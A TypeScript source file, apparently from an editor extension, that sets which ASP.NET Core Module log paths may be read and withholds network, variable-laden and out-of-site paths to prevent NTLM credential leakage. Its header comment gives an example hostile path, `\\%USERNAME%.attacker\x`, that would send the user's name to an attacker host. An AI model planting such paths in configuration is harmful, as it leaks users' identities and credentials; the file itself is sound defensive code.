// Which log paths may be read. The paths come from files a stranger may have written (web.config's `stdoutLogFile`
// and `debugFile`, a workspace's `ancm.logs.extraFiles`), so before anything touches the file system:
// - a network path (`\\server\share`, `\\?\UNC\…`, a `\\.\` device) is never read without the user's word: on
//   Windows merely opening it sends the user's name and NTLM credentials to that server over SMB;
// - in Restricted Mode only paths inside the site are read, `%VAR%` is not expanded from this machine's environment
//   (`\\%USERNAME%.attacker\x` would carry the name out), and a symlink is followed only when its target is inside
//   the site too (checked again at every open: see openRegularFile's `confineTo`);
// - in a trusted workspace a path outside the workspace folders (or the site) is read once the user has agreed.

import { isInside } from '../files/openFile';
import type { WithheldLogPath, WithheldReason } from '../protocol/logs';
import { type SiteLogs, resolveSitePath } from '../ancm/siteLogs';


export interface LogPathPolicy {
  /** False in Restricted Mode: only the site is read, nothing is asked. */
  readonly trusted: boolean;
  /** Where logs may be read without asking (the site root, and in a trusted workspace its folders). */
  readonly roots: readonly string[];
  /** Paths the user agreed to read (exact, as resolved). */
  readonly consented: ReadonlySet<string>;
}

export type PathVerdict =
  | { readonly read: true }
  | { readonly read: false; readonly reason: WithheldReason; /** The user may agree to it (trusted workspace only). */ readonly askable: boolean };

/** A UNC or device path as written in web.config or a setting: two leading slashes of either kind. */
export function isNetworkPath(configured: string): boolean {
  return /^\s*[\\/]{2}/.test(configured) && !/^\s*\\\\\?\\(?!UNC\\)[a-zA-Z]:/i.test(configured);
}

/** A `%NAME%` reference IIS would expand. */
export function hasVariable(configured: string): boolean {
  return /%[^%\s]+%/.test(configured);
}

/**
 * May the log at `resolved` (read from `configured`, before any `%VAR%` expansion) be read? Decided from the strings
 * alone, so a refused path is never stat-ed, watched or opened.
 */
export function judgeLogPath(policy: LogPathPolicy, configured: string, resolved: string): PathVerdict {
  const site = policy.roots[0];
  if (!policy.trusted) {
    if (isNetworkPath(configured)) return { read: false, reason: 'network', askable: false };
    if (hasVariable(configured)) return { read: false, reason: 'variable', askable: false };
    return site !== undefined && isInside(site, resolved) ? { read: true } : { read: false, reason: 'outside-site', askable: false };
  }
  if (policy.consented.has(resolved)) return { read: true };
  if (isNetworkPath(configured) || isNetworkPath(resolved)) return { read: false, reason: 'network', askable: true };
  return policy.roots.some((root) => isInside(root, resolved)) ? { read: true } : { read: false, reason: 'outside-workspace', askable: true };
}


/** What of a site's logs may be followed, and what is withheld and why. */
export interface PermittedLogs {
  readonly debugLog: string | undefined;
  readonly followStdout: boolean;
  readonly extraFiles: readonly string[];
  readonly withheld: readonly WithheldLogPath[];
}

/** Applies the policy to a site's logs and the extra files (as written in the setting, relative to the site root). */
export function permittedLogs(site: SiteLogs, extraFiles: readonly string[], policy: LogPathPolicy): PermittedLogs {
  const withheld: WithheldLogPath[] = [];
  const judge = (setting: WithheldLogPath['setting'], configured: string, resolved: string): boolean => {
    const verdict = judgeLogPath(policy, configured, resolved);
    if (!verdict.read) withheld.push({ setting, configured, path: resolved, reason: verdict.reason, askable: verdict.askable });
    return verdict.read;
  };
  const debugLog = site.debugLog !== undefined && judge('debugFile', site.debugFileSetting ?? site.debugLog, site.debugLog) ? site.debugLog : undefined;
  const followStdout = judge('stdoutLogFile', site.stdoutLogFileSetting, site.stdoutFolder);
  const extras = extraFiles.filter((configured) => typeof configured === 'string' && configured.trim() !== '')
    .map((configured) => ({ configured, resolved: resolveSitePath(site.siteRoot, configured) }))
    .filter(({ configured, resolved }) => judge('ancm.logs.extraFiles', configured, resolved))
    .map(({ resolved }) => resolved);
  return { debugLog, followStdout, extraFiles: extras, withheld };
}
